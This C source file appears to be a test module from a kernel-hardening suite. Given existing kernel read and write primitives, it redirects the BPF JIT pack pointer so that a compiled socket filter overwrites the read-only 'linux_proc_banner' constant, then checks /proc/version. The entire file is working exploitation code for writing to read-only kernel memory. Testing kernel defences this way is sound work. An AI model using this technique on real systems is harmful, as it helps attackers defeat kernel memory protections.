// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel compiles filters of sockets, and copies them into a pack of
 * read-only memory that a pointer in ordinary memory leads to. Here that leads
 * to a constant, the format of /proc/version, which shows the difference.
 */
#include <linux/filter.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"
#include "objects.h"

#define CONSTANT	"linux_proc_banner"	/* "%s version %s (...) ..." */
#define PACKS		"pack_list"
#define CHUNK		64	/* a filter takes one or more of them */
#define PACK_POINTER	16
#define PACK_BITMAP	32
#define PATIENCE	300	/* times 10 ms */

static int attach_filter(void)
{
	struct sock_filter code[] = { { BPF_RET | BPF_K, 0, 0, 7 } };
	struct sock_fprog filter = { .len = 1, .filter = code };
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	if (setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter)))
		return -1;
	return fd;
}

/* Of the first pack: a filter like this one is in the chunk ahead of it. */
static int free_chunk(uint64_t pack)
{
	uint64_t used = kread64(pack + PACK_BITMAP);

	return ~used ? __builtin_ctzll(~used) : -1;
}

/* In the middle of the constant, which is longer than a filter. */
static uint64_t find_room(void)
{
	uint64_t addr = ksymbol(CONSTANT), room = (addr + CHUNK) & ~(CHUNK - 1UL);
	char text[3 * CHUNK] = "";

	if (!addr || kread(addr, text, sizeof(text) - 1))
		return 0;
	return strlen(text) > room + CHUNK - addr && room > addr + strlen("%s version") ? room : 0;
}

/* The kernel may kill who asks for it. It takes the filter out when all is over. */
static void attach_in_child(void)
{
	pid_t child = fork();

	if (!child)
		_exit(attach_filter() < 0);
	waitpid(child, NULL, 0);
}

static bool wait_for_change(uint64_t addr, uint64_t old)
{
	int i;

	for (i = 0; i < PATIENCE && kread64(addr) == old; i++)
		usleep(10000);
	return i < PATIENCE;
}

static enum outcome overwrite_constant(uint64_t pack, uint64_t room)
{
	uint64_t pointer = kread64(pack + PACK_POINTER), old = kread64(room);
	int chunk = free_chunk(pack);
	char text[512];
	bool changed;

	if (chunk < 1 || kread64(pointer + (chunk - 1) * CHUNK) << 32 >> 32 != CHUNK)
		return broken("the filter is not where it was looked for, or too long");
	if (kwrite64(pack + PACK_POINTER, room - chunk * CHUNK))
		return lost("the pack's pointer was not to be changed");
	attach_in_child();
	changed = wait_for_change(room, old);
	file_read("/proc/version", text, sizeof(text));
	usleep(PATIENCE * 1000);
	kwrite64(pack + PACK_POINTER, pointer);
	if (!changed)
		return lost("the filter was not copied there");
	return won("the kernel copied a filter over a constant: /proc/version says '%.40s'", text);
}

enum outcome jit_pack(void)
{
	uint64_t packs = ksymbol(PACKS), room = find_room();
	int fd = packs && room ? attach_filter() : -1;
	enum outcome outcome;

	if (fd < 0 || kread64(packs) == packs)
		return broken("no pack of compiled filters, or no room for one");
	outcome = overwrite_constant(kread64(packs), room);
	close(fd);
	return outcome;
}
